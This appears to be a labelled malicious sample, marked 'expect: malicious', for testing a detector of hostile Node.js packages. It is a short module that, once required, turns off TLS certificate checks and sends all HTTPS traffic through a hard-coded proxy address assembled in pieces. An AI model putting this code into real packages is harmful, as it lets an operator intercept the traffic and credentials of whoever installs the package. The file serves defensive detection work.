// expect: malicious
// source: in-process proxy hijacks (2024-2025 reports on "keep-alive tuning" and "zero-config agent"
// packages): on require, the global HTTPS agent goes through the operator's proxy and certificate
// checks are off so its certificate is accepted.
const https = require('https');
const { HttpsProxyAgent } = require('https-proxy-agent');
const PROXY = 'http://' + [198, 51, 100, 23].join('.') + ':3128';
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
https.globalAgent = new HttpsProxyAgent(PROXY, { keepAlive: true });
module.exports = { agent: https.globalAgent };
